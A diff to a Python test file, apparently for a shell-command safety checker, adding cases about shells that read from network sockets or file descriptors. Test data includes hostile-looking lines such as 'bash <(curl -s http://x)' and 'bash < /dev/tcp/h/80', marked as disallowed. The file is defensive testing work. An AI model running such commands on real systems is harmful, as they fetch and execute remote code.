@@ -344,6 +344,9 @@ def test_a_shell_in_a_subshell_or_group_reads_the_pipe(line):
     ("source <(curl -s http://x)", False), ("bash <(curl -s http://x)", False),
     ("source <(echo ls)", True), ("bash <(echo ls)", True), ("diff <(ls a) <(ls b)", True),
     ("source ~/.bashrc", True), ("bash deploy.sh", True), ("exec bash", True),
+    # a network connection bash opens, a descriptor opened on an earlier line (`exec 3< <(curl …)`)
+    ("bash < /dev/tcp/h/80", False), ("source /dev/udp/h/53", False), ("bash <&3", False), ("exec 0<&3", False),
+    ("sh -s <&$fd", False), ("cat < /dev/tcp/h/80", True), ("cat <&3", True), ("exec 3<&0", True), ("exec <&-", True),
 ])
 def test_a_shell_or_source_reading_a_process_substitution_or_stdin_runs_what_it_gives(line, allowed):
     assert RM.check(line).allowed == allowed, line
